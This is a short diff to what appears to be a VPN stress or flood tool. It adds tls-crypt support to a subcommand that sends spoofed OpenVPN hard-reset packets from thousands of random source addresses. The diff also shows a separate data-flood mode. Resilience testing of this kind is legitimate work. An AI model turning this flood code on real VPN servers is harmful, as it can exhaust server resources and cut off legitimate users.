@@ -115,7 +115,9 @@ def cmd_reset_flood(a):
     for ip, port in srcs:
         sid = os.urandom(8)
         body = b"\x00" + b"\x00\x00\x00\x00"  # no ACKs, message packet-id 0
-        if a.hmac_len:  # tls-auth: random HMAC, replay id (counter 1, time now)
+        if a.random_tail:  # tls-crypt: replay id, tag and ciphertext, all random
+            pkt = bytes([OP_HARD_RESET_CLIENT_V2 << 3]) + sid + os.urandom(a.random_tail)
+        elif a.hmac_len:  # tls-auth: random HMAC, replay id (counter 1, time now)
             pkt = bytes([OP_HARD_RESET_CLIENT_V2 << 3]) + sid + os.urandom(a.hmac_len) + \
                   struct.pack("!II", 1, int(time.time())) + body
         else:
@@ -239,6 +241,7 @@ def main():
     p.add_argument("--net", default="10.204.0.0/16", help="spoofed sources are drawn from here")
     p.add_argument("--sources", type=int, default=10000)
     p.add_argument("--hmac-len", type=int, default=0, help="tls-auth: random HMAC of this length")
+    p.add_argument("--random-tail", type=int, default=0, help="tls-crypt: this many random bytes after the sid")
     bounds(p, 10)
     p = sub.add_parser("data-flood")
     p.add_argument("--iface", required=True)
